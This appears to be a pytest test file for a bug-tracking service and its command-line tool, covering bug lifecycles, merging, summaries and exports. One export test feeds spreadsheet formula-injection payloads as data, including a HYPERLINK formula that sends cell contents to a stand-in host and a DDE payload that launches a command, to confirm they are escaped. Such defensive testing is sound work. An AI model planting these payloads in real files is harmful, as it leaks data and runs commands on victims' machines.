"""The life of a bug over HTTP and by healctl: opened, worked on, fixed, back again; merged, split, exported."""
import csv
import io
import json

import pytest

from harness import Heald, healctl
from pg import Postgres


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def heald(request):
    if request.param == "sqlite":
        with Heald({"services": [{"name": "shop"}]}) as h:
            yield h
        return
    with Postgres() as server, Heald({"services": [{"name": "shop"}], "store": {"url": server.schema("bugs")}}) as h:
        yield h


def fail(h, message, service="shop", level="fatal", **more):
    h.log_error(message, service, log_level=level, **more)
    fingerprint = [f for f in h.get(f"/api/v1/fingerprints?service_name={service}")["items"]][0]["id"]
    return h.get(f"/api/v1/system/bugs?fingerprint={fingerprint}")["items"][0]


def change(h, bug, action, status=200, **body):
    answer = h.call("POST", f"/api/v1/system/bugs/{bug['bug_code']}/{action}", body)
    assert answer.status == status, answer.text
    return answer.json


def test_a_bug_is_assigned_commented_fixed_and_comes_back_as_a_regression(heald):
    bug = fail(heald, "cannot book the order", release="1.0")
    assert bug["status"] == "detected" and bug["last_release"] == "1.0"
    assert change(heald, bug, "assign", assignee="ada")["assigned_to"] == "ada"
    change(heald, bug, "comment", text="seen in the log of Monday")
    fixed = change(heald, bug, "fix", release="1.1", text="null check")
    assert fixed["status"] == "fixed" and fixed["fixed_at"] and fixed["fixed_in_release"] == "1.1"
    # An old instance that still runs is no regression …
    again = fail(heald, "cannot book the order", release="1.0")
    assert again["id"] == bug["id"] and again["status"] == "fixed" and again["occurrence_count"] == 2
    # … the release with the fix is.
    back = fail(heald, "cannot book the order", release="1.1")
    assert back["id"] == bug["id"] and back["status"] == "reopened" and back["reopened_count"] == 1 and back["fixed_at"] is None
    history = heald.get(f"/api/v1/system/bugs/{bug['id']}")["history"]
    assert [(e["action"], e["to_status"]) for e in history] == [
        ("open", "detected"), ("assign", "detected"), ("comment", "detected"), ("move", "fixed"), ("move", "reopened")]
    assert history[-1]["actor"] == "heald" and "1.1" in history[-1]["text"]
    audited = [a["action"] for a in heald.get("/api/v1/audit?limit=100")["items"]]
    assert {"bug.assign", "bug.comment", "bug.fix"} <= set(audited)


def test_what_a_status_does_not_allow_is_refused_and_changes_nothing(heald):
    bug = fail(heald, "cannot ship the parcel")
    assert "cannot become" in change(heald, bug, "reopen", 409)["detail"]
    assert "must say why" in change(heald, bug, "reject", 400)["detail"]
    assert "must be close" in change(heald, bug, "explode", 400)["detail"]
    assert heald.call("POST", f"/api/v1/system/bugs/{bug['id']}/close", {"why": "x"}).status == 400
    assert heald.call("POST", "/api/v1/system/bugs/BUG-20000101-00001/close", {}).status == 404
    assert heald.get(f"/api/v1/system/bugs/{bug['id']}")["status"] == "detected"


def test_a_rejected_bug_is_counted_and_stays_rejected(heald):
    bug = fail(heald, "cannot draw the chart")
    change(heald, bug, "reject", text="a known limit of the browser")
    again = fail(heald, "cannot draw the chart")
    assert again["id"] == bug["id"] and again["status"] == "rejected" and again["occurrence_count"] == 2


def test_merged_bugs_count_as_one_until_they_are_split(heald):
    one, other = fail(heald, "cannot open the ledger"), fail(heald, "unable to read the account book")
    merged = change(heald, other, "merge", into=one["bug_code"], text="same file")
    assert merged["status"] == "closed" and merged["merged_into"] == one["id"]
    assert heald.get(f"/api/v1/system/bugs/{one['id']}")["occurrence_count"] == 2
    fail(heald, "unable to read the account book")
    assert heald.get(f"/api/v1/system/bugs/{one['id']}")["occurrence_count"] == 3
    assert "split it first" in change(heald, other, "reopen", 409)["detail"]
    assert "merged already" in change(heald, other, "merge", 409, into=one["bug_code"])["detail"]
    assert "into itself" in change(heald, one, "merge", 400, into=one["id"])["detail"]
    parted = change(heald, other, "split")
    assert parted["status"] == "reopened" and parted["merged_into"] is None
    assert heald.get(f"/api/v1/system/bugs/{one['id']}")["occurrence_count"] == 2


def test_the_summary_adds_up(heald):
    s = heald.get("/api/v1/system/bugs/summary")
    bugs = heald.get("/api/v1/system/bugs?limit=1000")["items"]
    assert s["total"] == len(bugs) == sum(s["by_status"].values()) == sum(s["by_severity"].values()) == sum(s["by_type"].values())
    assert s["open"] == sum(b["status"] not in ("fixed", "closed", "rejected") for b in bugs)
    assert s["time_to_detect"]["n"] == len(bugs)


def test_exports_hold_every_bug_and_no_cell_is_a_formula(heald):
    for message in ('=HYPERLINK("http://evil.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", 'say "hello", world'):
        fail(heald, message, service="csv")
    bugs = heald.get("/api/v1/system/bugs?limit=1000")["items"]
    get = lambda form: heald.call("GET", f"/api/v1/system/bugs/export?format={form}")
    table = get("csv")
    assert table.headers["Content-Type"].startswith("text/csv") and "attachment" in table.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(table.text)))
    assert [r["bug_code"] for r in rows] == [b["bug_code"] for b in bugs]
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@\t\r"]
    assert any(r["message"] == 'say "hello", world' for r in rows) and any(r["message"].startswith("'=HYPERLINK") for r in rows)
    assert [b["id"] for b in json.loads(get("json").text)] == [b["id"] for b in bugs]
    assert [json.loads(line)["id"] for line in get("ndjson").text.splitlines()] == [b["id"] for b in bugs]
    assert get("xml").status == 400 and heald.call("GET", "/api/v1/system/bugs/export?limit=0").status == 400


def test_a_person_reports_a_bug(heald):
    answer = heald.call("POST", "/api/v1/system/bugs/ingest", {"service_name": "desk", "message": "the printer prints in Greek"})
    assert answer.status == 202
    bug = heald.get("/api/v1/system/bugs?service_name=desk")["items"][0]
    assert bug["title"] == "the printer prints in Greek" and bug["status"] == "detected"
    assert heald.call("POST", "/api/v1/system/bugs/ingest", {"service_name": "desk"}).status == 400


def test_healctl_does_all_of_it(heald):
    bug = fail(heald, "cannot fold the map", service="cli")["bug_code"]
    assert healctl(heald, "bug", "assign", bug, "bo")[0] == 0
    assert healctl(heald, "bug", "comment", bug, "it rained")[0] == 0
    code, out, _ = healctl(heald, "bug", "fix", bug, "--release", "2.0")
    assert code == 0 and f"{bug} is fixed" in out
    assert healctl(heald, "bug", "close", bug)[0] == 0
    assert healctl(heald, "bug", "reopen", bug, "--text", "not at all")[0] == 0
    code, out, err = healctl(heald, "bug", "reopen", bug)
    assert code != 0 and "cannot become" in err
    code, out, _ = healctl(heald, "bug", "show", bug)
    assert code == 0 and "it rained" in out and "reopened" in out
    code, out, _ = healctl(heald, "bug", "export")
    assert code == 0 and bug in out and out.startswith("bug_code,")
    assert json.loads(healctl(heald, "--json", "bug", "summary")[1])["total"] > 0
